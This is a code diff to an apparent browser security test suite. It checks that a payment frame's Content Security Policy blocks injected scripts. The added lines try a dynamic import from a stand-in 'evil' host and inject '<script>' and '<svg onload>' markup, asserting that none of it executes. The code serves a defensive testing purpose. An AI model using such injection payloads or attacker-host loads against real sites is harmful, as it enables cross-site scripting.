@@ -187,6 +187,7 @@ ATTEMPTS = """() => new Promise((resolve) => setTimeout(async () => {
     eval: await tried(() => eval('window.injected = 1')),
     'timer of text': await tried(() => setTimeout('window.injected = 1')),
     'policy of its own': await tried(() => trustedTypes.createPolicy('mine', {})),
+    'module of evil': await tried(() => import(`${evil}/harness/places.js`)),
     'fetch to evil': await tried(() => fetch(evil)),
     'image of evil': await tried(image),
     injected: window.injected ?? null,
@@ -207,3 +208,21 @@ async def test_check_35_policies_in_the_frame(visit: Visit) -> None:
     violated = found.pop("violated")
     assert {"connect-src", "img-src", "require-trusted-types-for"} <= set(violated)
     assert [] == [attempt for attempt, ended in found.items() if ended == "done"], found
+
+
+async def test_check_35_markup_in_the_document(visit: Visit) -> None:
+    """Were markup injected into the document itself, no script in it runs; the element works."""
+    visit.expect_error("Content Security Policy")
+    injected = "<script>window.injected = 1</script><svg onload='window.injected = 1'></svg>"
+
+    def change(_headers: dict[str, str], text: str) -> str:
+        return text.replace("<main", f"{injected}<main")
+
+    await visit.change_frame_documents(change)
+    shop = await visit.shop("payment")
+
+    await shop.hear("initialized")
+
+    frame = await shop.frame()
+    assert 1 == await frame.evaluate("document.querySelectorAll('svg[onload]').length")
+    assert None is await frame.evaluate("window.injected ?? null")
